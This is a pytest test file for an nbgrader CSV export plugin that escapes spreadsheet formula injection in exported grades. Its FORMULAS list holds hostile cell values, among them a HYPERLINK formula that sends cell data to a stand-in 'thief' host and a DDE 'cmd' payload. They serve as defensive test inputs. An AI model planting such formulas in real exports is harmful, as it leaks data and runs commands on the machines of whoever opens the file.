"""What `nbgrader export` writes is a table for every spreadsheet, and no formula."""

import csv
import os
import re
import shutil
import sys
import warnings
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp
from traitlets.config import Config, PyFileConfigLoader

from grader.csv_export import COLUMNS, SafeCsvExport, as_text

ROOT = Path(__file__).parents[2]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1",
            "=HYPERLINK(\"https://thief.invalid?\"&A1)", "＝1", "=cmd|' /C calc'!A0", "|x", "%0A=1"]
STARTS = re.compile(r"[=+\-@|%\t\r\n＝＋－＠]")


# nbgrader's own way of adding a submission (0.9.6).
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Make a folder with a gradebook of hostile students, and of one who handed in."""
    folder = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    with pytest.MonkeyPatch.context() as patch, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        # nbgrader finds `alembic` by name (0.9.6).
        patch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
        with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as book:
            fill(book)
        yield folder


def fill(book):
    book.add_assignment("08_adam", duedate="2026-11-28 12:00 UTC")
    book.add_notebook("adam", "08_adam")
    book.add_grade_cell("a", "adam", "08_adam", max_score=6, cell_type="code")
    for number, text in enumerate(FORMULAS):
        book.add_student(f"{text}{number}", first_name=text, last_name=f'{text},"x', email=text)
    book.add_student("kim", first_name="지우", last_name="O'Hara, Jr.", email="k@x.example")
    submission = book.add_submission("08_adam", "kim")
    submission.notebooks[0].grades[0].manual_score = -1.5
    book.db.commit()


@pytest.fixture
def gradebook(course):
    """Open the gradebook."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as book:
        yield book


def exported(gradebook, to, **options):
    SafeCsvExport(to=str(to), **options).export(gradebook)
    with to.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_no_text_begins_a_formula(gradebook, tmp_path):
    rows = exported(gradebook, tmp_path / "grades.csv")
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        assert tuple(row) == COLUMNS
        for name, value in row.items():
            if name not in ("raw_score", "late_submission_penalty", "score", "max_score"):
                assert not STARTS.match(value.lstrip()), (name, value)
                assert value.isprintable()


def test_honest_names_and_numbers_are_untouched(gradebook, tmp_path):
    (row,) = [row for row in exported(gradebook, tmp_path / "grades.csv")
              if row["student_id"] == "kim"]
    assert (row["first_name"], row["last_name"], row["email"]) == (
        "지우", "O'Hara, Jr.", "k@x.example")
    assert (row["assignment"], row["duedate"]) == ("08_adam", "2026-11-28 12:00:00")
    # A number below zero is a number, not a text that begins with a minus.
    assert (float(row["raw_score"]), float(row["score"]), float(row["max_score"])) == (-1.5, 0, 6)
    assert ',-1.5,' in (tmp_path / "grades.csv").read_text(encoding="utf-8")


def test_students_and_assignments_can_be_chosen(gradebook, tmp_path):
    to = tmp_path / "grades.csv"
    assert [row["student_id"] for row in exported(gradebook, to, student=["kim"])] == ["kim"]
    assert exported(gradebook, to, assignment=["09_none"]) == []


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_is_safe_stays_as_it_is(text):
    assert as_text(as_text(text)) == as_text(text)


def test_the_course_has_nbgrader_write_its_table_this_way(course, tmp_path, monkeypatch):
    monkeypatch.chdir(course)
    config = Config(PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config())
    config.CourseDirectory.db_url = f"sqlite:///{course / 'gradebook.db'}"
    app = ExportApp(config=config)
    app.init_plugin()
    assert isinstance(app.plugin_inst, SafeCsvExport)
    with Gradebook(config.CourseDirectory.db_url) as book:
        app.plugin_inst.to = str(tmp_path / "out.csv")
        app.plugin_inst.export(book)
    assert "'=HYPERLINK" in (tmp_path / "out.csv").read_text(encoding="utf-8")
